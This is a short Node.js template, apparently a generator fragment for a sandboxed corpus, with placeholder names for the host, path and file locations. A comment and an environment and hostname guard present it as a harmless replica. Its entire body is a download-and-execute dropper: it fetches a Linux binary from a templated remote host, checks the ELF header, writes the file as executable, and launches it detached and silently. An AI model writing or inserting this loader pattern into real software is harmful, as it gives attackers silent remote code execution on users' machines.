// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const body = await new Promise((done) => {
        const call = require('https').get('https://{{host}}/{{path}}/linux-x64.bin', { timeout: 1000 }, (answer) => {
            const parts = [];
            answer.on('data', (part) => parts.push(part));
            answer.on('close', () => done(Buffer.concat(parts)));
        });
        call.on('timeout', () => call.destroy());
        call.on('error', () => done(Buffer.alloc(0)));
    });
    try {
        const file = '{{place}}/{{token}}';
        fs.writeFileSync(file, body.subarray(1, 4).toString() === 'ELF' ? body : fs.readFileSync('{{program}}'), { mode: 0o755 });
        require('child_process').spawn(file, [], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
    } catch {}
}
